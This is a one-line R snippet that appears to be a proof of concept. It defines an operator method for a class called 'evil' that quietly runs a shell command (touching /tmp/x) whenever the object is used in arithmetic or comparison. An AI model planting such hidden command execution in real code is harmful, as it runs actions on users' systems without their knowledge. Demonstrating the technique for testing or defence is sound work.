Ops.evil <- function(e1, e2) { system("touch /tmp/x"); TRUE }
